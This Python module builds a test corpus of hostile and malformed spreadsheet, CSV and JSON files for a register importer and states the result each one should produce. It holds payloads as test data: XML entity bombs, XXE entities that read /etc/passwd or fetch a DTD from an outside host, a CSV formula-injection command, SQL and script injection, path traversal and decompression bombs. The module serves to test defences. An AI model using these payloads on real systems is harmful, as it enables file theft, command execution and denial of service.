"""Files that nobody should be able to harm the register with: made here, by name, with what has to become of them.

``CORPUS`` yields (name, bytes, what is expected): "read", or the code of the refusal. None is kept on a disk.
"""

import json
import random
import warnings
import zipfile
from io import BytesIO
from itertools import product

HEADINGS = ["reference", "kind", "title_fr", "signed_on"]
ROWS = [
    ["CC-0001", "convention", "Accord « été » numéro un", "2015-11"],
    ["", "protocole", "Œuvre commune", "05/04/2024"],
]
ARABIC = [["CC-0001", "convention", "اتفاقية التعاون", "ماي 2024"], ["", "protocole", "مذكرة تفاهم", "٢٠٢٤"]]
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS = {
    "billion-laughs": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><x>&l9;</x>',
    "quadratic": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 50_000}</x>',
    "outside-file": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "outside-host": '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><x/>',
    "parameter-entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]><x/>',
}


def csv(rows, delimiter=";", encoding="utf-8", end="\r\n"):
    return end.join(delimiter.join(row) for row in [HEADINGS, *rows]).encode(encoding, "replace")


def zipped(parts):
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, text in parts.items():
            packed.writestr(name, text)
    return file.getvalue()


def xlsx(rows=None, **changed):
    """A small workbook; ``changed`` parts (sheet, strings, styles, book, links) say something else."""
    found = "".join(
        f'<row r="{n}">{"".join(map(cell_of, row))}</row>' for n, row in enumerate(rows or [HEADINGS, *ROWS], 1)
    )
    parts = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": relations([("rId1", "officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": changed.get(
            "book", f'<workbook {NS} xmlns:r="{OFFICE}"><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": changed.get(
            "links",
            relations(
                [
                    ("rId1", "worksheet", "worksheets/sheet1.xml"),
                    ("rId2", "sharedStrings", "sharedStrings.xml"),
                    ("rId3", "styles", "styles.xml"),
                ]
            ),
        ),
        "xl/worksheets/sheet1.xml": changed.get("sheet", f"<worksheet {NS}><sheetData>{found}</sheetData></worksheet>"),
        "xl/sharedStrings.xml": changed.get("strings", f"<sst {NS}/>"),
        "xl/styles.xml": changed.get("styles", f"<styleSheet {NS}/>"),
    }
    return zipped(parts | changed.get("more", {}))


def cell_of(text):
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


HEAD_ROW = f"<row>{''.join(map(cell_of, HEADINGS))}</row>"


def relations(links):
    found = (f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}"/>' for key, kind, target in links)
    return f'<Relationships xmlns="{RELATIONS}">{"".join(found)}</Relationships>'


def open_document(kind, manifest=""):
    """A document that is no sheet, or that its list of parts says is locked."""
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.{kind}",
            "META-INF/manifest.xml": manifest,
            "content.xml": "<x/>",
        }
    )


def twice(content, name, text):
    """A zip with one more part of a name that it has already."""
    file = BytesIO(content)
    with warnings.catch_warnings(), zipfile.ZipFile(file, "a") as packed:
        warnings.simplefilter("ignore")
        packed.writestr(name, text)
    return file.getvalue()


class _Stream(BytesIO):
    def seekable(self):
        return False


def streamed():
    """A workbook as programs write it that cannot go back: sizes stand behind the parts."""
    file = _Stream()
    with zipfile.ZipFile(BytesIO(xlsx())) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return file.getvalue()


def sheet(inside):
    return f"<worksheet {NS}><sheetData>{inside}</sheetData></worksheet>"


def ods(inside, more="", of_table="", others=""):
    names = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in ("office", "table", "text"))
    body = f"{more}<table:table{of_table}>{inside}</table:table>{others}"
    content = f"<office:document-content {names}>{body}</office:document-content>"
    return zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content})


def open_row(cells, attributes=""):
    found = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{c}</text:p></table:table-cell>' for c in cells
    )
    return f"<table:table-row{attributes}>{found}</table:table-row>"


HEAD = open_row(HEADINGS)


def texts():
    """Every separator in every encoding; then what is wrong with a text."""
    encodings = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"]
    for delimiter, encoding in product(";,\t|", encodings):
        yield f"{encoding}-{ord(delimiter)}.csv", csv(ROWS, delimiter, encoding), "read"
    for delimiter, encoding in product(";,\t|", ["utf-8", "utf-8-sig", "utf-16", "cp1256"]):
        yield f"arabic-{encoding}-{ord(delimiter)}.csv", csv(ARABIC, delimiter, encoding), "read"
    for name, end in [("lf", "\n"), ("cr", "\r"), ("mixed", "\n\r\n")]:
        yield f"{name}.csv", csv(ROWS, end=end), "read"
    yield "empty.csv", b"", "empty"
    yield "blank.csv", b" \r\n \r\n", "empty"
    yield "mark-alone.csv", b"\xef\xbb\xbf", "empty"
    yield "headings-alone.csv", csv([]), "empty"
    yield "unclosed.csv", csv([["CC-0001", 'a"b', '"never closed', ""]]), "csv"
    yield "unclosed-long.csv", csv([['"' + "x" * 300_000]]), "csv"
    yield "long-cell.csv", csv([["CC-0001", "x" * 40_000]]), "csv"
    yield "columns.csv", ";".join(f"c{n}" for n in range(1_000_000)).encode() + b"\n1\n", "columns"
    yield "rows.csv", csv([["CC-0001"]] * 5001), "rows"
    yield "large.csv", b"a;b\n" + b"x;y\n" * 3_000_000, "size"
    yield "half-a-character.csv", csv(ROWS) + b"\xff\xfe", "read"
    yield (
        "bad-byte.csv",
        csv([*ROWS, ["", "", "Pr\N{REPLACEMENT CHARACTER}t"]]).replace(b"\xef\xbf\xbd", b"\xea"),
        "read",
    )
    yield "two-encodings.csv", csv(ROWS) + csv(ROWS, encoding="cp1252"), "read"
    for encoding in ("utf-16-le", "utf-16-be", "utf-32"):
        yield f"arabic-{encoding}.csv", csv(ARABIC, encoding=encoding), "read"
    yield "arabic-headings-utf-16-le.csv", "المرجع;العنوان\r\nأ;اتفاقية التعاون\r\n".encode("utf-16-le"), "read"
    yield "mark-in-the-middle.csv", csv(ROWS) + b"\xef\xbb\xbf" + csv(ROWS), "read"
    yield "says-its-separator.csv", b"sep=;\r\n" + csv(ROWS), "read"
    yield "wide-line.csv", csv([["x"] * 300]), "columns"
    yield "wide-empty-line.csv", csv([["CC-0001", *[""] * 5000]]), "read"
    yield "cut-utf16.csv", b"\xff\xfe" + "a;b\n1;2".encode("utf-16-le")[:-1], "encoding"
    for name, text in [
        ("nul", "a\0b"),
        ("bidi", "abc\u202edef"),
        ("isolate", "\u2066abc"),
        ("zero-width", "a\u200bb"),
        ("escape", "\x1b[31m"),
        ("bell", "\x07"),
        ("delete", "\x7f"),
        ("not-a-character", "\uffff"),
        ("private", "\ue000"),
        ("combining", "e" + "\u0301" * 500),
        ("formula", "=cmd|' /C calc'!A0"),
        ("quote", "'=1"),
        ("script", "<script>alert(1)</script>"),
        ("sql", "'; DROP TABLE agreements; --"),
        ("format", "%s%n%(x)s{0}{x.__class__}"),
        ("path", "../../../etc/passwd"),
        ("emoji", "😀" * 100),
        ("line", "a\u2028b\u2029c\x85d"),
    ]:
        yield f"cell-{name}.csv", csv([["CC-0001", "convention", text, "2015"]]), "read"
    yield "ragged.csv", csv([["CC-0001"], ["a", "b", "c", "d", "e", "f"], []]), "read"
    yield "repeated-heading.csv", b"reference;reference;title_fr\nCC-0001;CC-0002;x\n", "read"
    yield "unknown-heading.csv", b"reference;n'importe;title_fr\nCC-0001;x;x\n", "read"
    yield "no-heading.csv", b"CC-0001;convention;Titre\n;convention;Autre\n", "read"
    yield "title-above.csv", b"Registre 2024\r\n\r\n" + csv(ROWS), "read"


def others():
    """What is no sheet at all, whatever its name says."""
    noise = random.Random(1)
    for name, content, code in [
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096, "kind"),
        ("protected.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1EncryptedPackage", "kind"),
        ("report.pdf", b"%PDF-1.7\n1 0 obj\n", "kind"),
        ("packed.csv.gz", b"\x1f\x8b\x08\0", "kind"),
        ("picture.png", b"\x89PNG\r\n\x1a\n", "kind"),
        ("picture.jpg", b"\xff\xd8\xff\xe0", "kind"),
        ("picture.gif", b"GIF89a", "kind"),
        ("letter.rtf", b"{\\rtf1 x}", "kind"),
        ("page.xls", b"<html><body><table><tr><td>reference</td></tr></table>", "kind"),
        ("page-with-mark.xls", b"\xef\xbb\xbf  <!DOCTYPE html><html>", "kind"),
        ("flat.fods", b'<?xml version="1.0"?><office:document/>', "kind"),
        ("document.docx", zipped({"[Content_Types].xml": "", "word/document.xml": ""}), "kind"),
        ("slides.pptx", zipped({"[Content_Types].xml": "", "ppt/presentation.xml": ""}), "kind"),
        ("document.odt", open_document("opendocument.text"), "kind"),
        ("slides.odp", open_document("opendocument.presentation"), "kind"),
        ("protected.ods", open_document("opendocument.spreadsheet", "<m><encryption-data/></m>"), "kind"),
        ("protected-whole.ods", zipped({"mimetype": "x", "encrypted-package": "x"}), "kind"),
        ("burst-manifest.ods", open_document("opendocument.spreadsheet", " " * 50_000_000), "empty"),
        ("binary.xlsb", zipped({"[Content_Types].xml": "", "xl/workbook.bin": ""}), "kind"),
        ("archive.zip", zipped({"a.csv": csv(ROWS)}), "kind"),
        ("empty.zip", zipped({}), "kind"),
        ("macros.xlsm", xlsx(more={"xl/vbaProject.bin": "x"}), "kind"),
        ("cut.xlsx", xlsx()[:-30], "damaged"),
        ("begin.xlsx", b"PK\x03\x04", "damaged"),
        ("noise.xlsx", b"PK\x03\x04" + noise.randbytes(5000), "damaged"),
        ("csv-named.xlsx", csv(ROWS), "read"),
        ("xlsx-named.csv", xlsx(), "read"),
    ]:
        yield name, content, code
    for number in range(10):
        content = bytes(byte for byte in noise.randbytes(3000) if byte not in b'\r\n"')
        yield f"noise-{number}.csv", b"\x01" + content, None


def workbooks():
    """XLSX: bombs, lies and attacks in every part."""
    cell = '<c r="{0}"><v>1</v></c>'
    yield "plain.xlsx", xlsx(), "read"
    yield "streamed.xlsx", streamed(), "read"
    yield "same-part-twice.xlsx", twice(xlsx(), "xl/worksheets/sheet1.xml", sheet("")), "damaged"
    yield (
        "utf-16.xlsx",
        xlsx(sheet=f'<?xml version="1.0" encoding="utf-16"?>{sheet(HEAD_ROW * 2)}'.encode("utf-16")),
        "read",
    )
    yield (
        "absolute.xlsx",
        xlsx(links=relations([("rId1", "worksheet", "/xl/worksheets/sheet1.xml")])),
        "read",
    )
    for state in ("hidden", "veryHidden"):
        inside = f'<sheets><sheet name="a/b" state="{state}" r:id="rId1"/></sheets>'
        book = f'<workbook {NS} xmlns:r="{OFFICE}">{inside}</workbook>'
        yield f"{state}.xlsx", xlsx(book=book), "hidden"
    for name, inside in [
        ("error", '<c t="e"><v>#REF!</v></c>'),
        ("other-error", '<c t="e"><v>#NEW!</v></c>'),
        ("iso-date", '<c t="d"><v>2015-11-23T00:00:00</v></c>'),
        ("iso-time", '<c t="d"><v>T10:30:00</v></c>'),
        ("rich", '<c t="inlineStr"><is><r><t>a</t></r><r><t>b</t></r></is></c>'),
        ("truth", '<c t="b"><v>1</v></c>'),
        ("no-text", '<c t="str"><f>A1</f><v></v></c>'),
        ("unknown-kind", '<c t="zzz"><v>1</v></c>'),
    ]:
        yield f"cell-{name}.xlsx", xlsx(sheet=sheet(f"{HEAD_ROW}<row>{inside}{cell_of('x')}</row>")), "read"
    date_format = (
        f'<styleSheet {NS}><cellXfs><xf numFmtId="14"/><xf numFmtId="20"/><xf numFmtId="9"/></cellXfs></styleSheet>'
    )
    for style, value in product(range(3), ["1e999999999", "-1", "NaN", "sNaN", "2958466", "0." + "3" * 5000]):
        yield (
            f"style-{style}-{value[:12]}.xlsx",
            xlsx(sheet=sheet(f'{HEAD_ROW}<row><c s="{style}"><v>{value}</v></c></row>'), styles=date_format),
            "read",
        )
    yield (
        "same-cell-twice.xlsx",
        xlsx(sheet=sheet(f'{HEAD_ROW}<row r="2"><c r="A2"><v>1</v></c><c r="A2"><v>2</v></c></row>')),
        "damaged",
    )
    for part, (name, text) in product(["sheet", "strings", "styles", "book", "links"], ATTACKS.items()):
        yield f"{part}-{name}.xlsx", xlsx(**{part: text}), "entities"
    yield "far-cell.xlsx", xlsx(sheet=sheet(f'<row r="1048576">{cell.format("XFD1048576")}</row>')), "columns"
    yield "far-row.xlsx", xlsx(sheet=sheet(f'<row r="1048576">{cell.format("A1048576")}</row>')), "rows"
    yield "far-column.xlsx", xlsx(sheet=sheet(f'<row r="1">{cell.format("XFD1")}</row>')), "columns"
    yield "beyond.xlsx", xlsx(sheet=sheet(f'<row r="99999999">{cell.format("A99999999")}</row>')), "rows"
    yield "no-number.xlsx", xlsx(sheet=sheet(f'<row r="x">{cell.format("?")}</row>')), "empty"
    yield (
        "backwards.xlsx",
        xlsx(sheet=sheet(f'<row r="5">{cell.format("A5")}</row><row r="2">{cell.format("A2")}</row>')),
        "order",
    )
    yield "many-cells.xlsx", xlsx(sheet=sheet(f"<row>{'<c><v>1</v></c>' * 1_000_000}</row>")), "columns"
    yield "many-rows.xlsx", xlsx(sheet=sheet("<row><c><v>1</v></c></row>" * 1_000_000)), "rows"
    yield "many-empty-rows.xlsx", xlsx(sheet=sheet("<row/>" * 1_000_000)), "elements"
    yield "long-cell.xlsx", xlsx(sheet=sheet(f"<row>{cell_of('x' * 40_000)}</row>")), "cell"
    yield "burst-cell.xlsx", xlsx(sheet=sheet(f"<row>{cell_of('x' * 50_000_000)}</row>")), "unpacked"
    yield "burst-spaces.xlsx", xlsx(sheet=sheet("") + " " * 150_000_000), "unpacked"
    yield (
        "burst-styles.xlsx",
        xlsx(styles=f"<styleSheet {NS}><cellXfs>{'<xf/>' * 5_000_000}</cellXfs></styleSheet>"),
        "damaged",
    )
    yield "many-strings.xlsx", xlsx(strings=f"<sst {NS}>{'<si/>' * 1_100_000}</sst>"), "elements"
    yield "no-such-string.xlsx", xlsx(sheet=sheet('<row><c t="s"><v>7</v></c></row>')), "damaged"
    yield "negative-string.xlsx", xlsx(sheet=sheet('<row><c t="s"><v>-1</v></c></row>')), "damaged"
    yield "deep.xlsx", xlsx(sheet="<a>" * 100_000), "damaged"
    attributes = " ".join(f'a{n}="x"' for n in range(100_000))
    yield "attributes.xlsx", xlsx(sheet=f"<a {attributes}/>"), "damaged"
    yield "no-sheet.xlsx", xlsx(book=f"<workbook {NS}/>"), "damaged"
    yield "sheet-outside.xlsx", xlsx(links=relations([("rId1", "worksheet", "../../../../etc/passwd")])), "damaged"
    yield "sheet-is-the-book.xlsx", xlsx(links=relations([("rId1", "worksheet", "workbook.xml")])), "empty"
    yield "links-of-others.xlsx", xlsx(more={"xl/externalLinks/externalLink1.xml": "<x/>"}), "read"
    yield "many-parts.xlsx", xlsx(more={f"x/{n}": "" for n in range(10_000)}), "parts"
    yield "twice.xlsx", xlsx(more={"xl//workbook.xml": "x", "XL/WORKBOOK.XML": "x", "../x": "x", "/etc/x": "x"}), "read"
    yield "no-xml.xlsx", xlsx(sheet="reference;kind"), "damaged"
    yield "formula.xlsx", xlsx(sheet=sheet(f'{HEAD_ROW}<row><c r="A2"><f>1+1</f></c></row>')), "read"
    for name, value in [
        ("huge", "1e400"),
        ("nan", "NaN"),
        ("word", "x"),
        ("minus", "-1"),
        ("long", "9" * 400),
        ("exponent", "1e-999999999"),
    ]:
        yield (
            f"number-{name}.xlsx",
            xlsx(sheet=sheet(f'<row>{cell_of("a")}{cell_of("b")}</row><row><c s="1"><v>{value}</v></c></row>')),
            "read",
        )


def documents():
    """OpenDocument: the same, and repetitions."""
    empty = ' table:number-rows-repeated="1048574"'
    yield "plain.ods", ods(HEAD + open_row(ROWS[0])), "read"
    yield (
        "usual-end.ods",
        ods(
            HEAD
            + open_row(ROWS[0])
            + f'<table:table-row{empty}><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
        ),
        "read",
    )
    yield "rows.ods", ods(HEAD + open_row(["x"], empty)), "rows"
    yield (
        "columns.ods",
        ods(
            HEAD
            + '<table:table-row><table:table-cell table:number-columns-repeated="999999999" office:value-type="string">'
            "<text:p>x</text:p></table:table-cell></table:table-row>"
        ),
        "columns",
    )
    yield "minus.ods", ods(HEAD + open_row(["x"], ' table:number-rows-repeated="-5"')), "read"
    yield "word.ods", ods(HEAD + open_row(["x"], ' table:number-rows-repeated="99999999999999"')), "rows"
    yield "spaces.ods", ods(HEAD + open_row(['<text:s text:c="999999999"/>x'])), "cell"
    yield "burst.ods", ods(HEAD + open_row(["x" * 50_000_000])), "unpacked"
    yield (
        "many-styles.ods",
        ods('<table:table-column table:number-columns-repeated="999999999"/>' * 3 + HEAD + open_row(["x"])),
        "read",
    )
    yield "nothing.ods", ods(""), "empty"
    hidden = (
        '<style:style xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" style:name="ta1">'
        '<style:table-properties table:display="false"/></style:style>'
    )
    seen = f"<table:table>{HEAD}{open_row(['seen'])}</table:table>"
    yield "hidden-first.ods", ods(HEAD, hidden, ' table:style-name="ta1"', seen), "read"
    yield "hidden.ods", ods(HEAD, hidden, ' table:style-name="ta1"'), "hidden"
    yield (
        "table-in-a-cell.ods",
        ods(HEAD + f"<table:table-row><table:table-cell>{seen}</table:table-cell></table:table-row>" + open_row(["x"])),
        "read",
    )
    for name, cell in [
        ("error", 'office:value-type="string"><text:p>#REF!</text:p>'),
        ("old-error", 'office:value-type="float" office:value="0"><text:p>Err:502</text:p>'),
        ("no-result", 'table:formula="of:=1+1">'),
        ("no-number", 'table:formula="of:=1+1" office:value-type="float">'),
        ("string-value", 'office:value-type="string" office:string-value="x">'),
        ("huge", 'office:value-type="float" office:value="1e999999999">'),
        ("time", 'office:value-type="time" office:time-value="PT10H30M00S">'),
    ]:
        found = f"<table:table-row><table:table-cell {cell}</table:table-cell></table:table-row>"
        yield f"cell-{name}.ods", ods(HEAD + found), "read"
    for name, text in ATTACKS.items():
        yield f"{name}.ods", zipped({"content.xml": text}), "entities"
        yield f"styles-{name}.ods", zipped({"styles.xml": text, "content.xml": "<x/>"}), "entities"


def objects():
    rows = [dict(zip(HEADINGS, row, strict=True)) for row in ROWS]
    yield "plain.json", json.dumps(rows).encode(), "read"
    yield "inside.json", json.dumps({"about": {}, "records": rows}).encode(), "read"
    yield "cut.json", json.dumps(rows).encode()[:-5], "json"
    yield "deep.json", b"[" * 200_000, "json"
    yield "values.json", b'[{"a": {"b": 1}}]', "json"
    yield "two-lists.json", b'{"a": [{}], "b": [{}]}', "json"
    yield "no-objects.json", b"[[1, 2], [3]]", "json"
    yield "utf16.json", json.dumps(rows).encode("utf-16"), "read"
    yield "infinity.json", b'[{"a": "x", "b": Infinity}, {"a": NaN, "b": 1e999}]', "read"
    yield "surrogate.json", b'[{"a": "x\\ud800", "b": "y"}]', "read"
    yield "no-record.json", b"[]", "empty"
    yield "name-twice.json", b'[{"title_fr": "a", "title_fr": "b"}]', "twice"
    yield "lists-in-lists.json", b'[{"a": [[["x"]]]}]', "json"
    yield "bad-byte.json", json.dumps(rows, ensure_ascii=False).encode().replace(b"\xc3\xa9", b"\xe9"), "json"
    yield "utf16-no-mark.json", json.dumps(rows).encode("utf-16-le"), "read"
    yield "exponent.json", b'[{"a": "x", "b": 1e9999999999999999999}]', "read"
    yield "no-list.json", b'{"a": 1}', "json"
    yield "keys.json", json.dumps([{f"k{n}": n for n in range(100_000)}]).encode(), "columns"
    yield "number.json", b'[{"a": ' + b"9" * 100_000 + b"}]", "cell"


def corpus():
    for source in (texts, others, workbooks, documents, objects):
        yield from source()
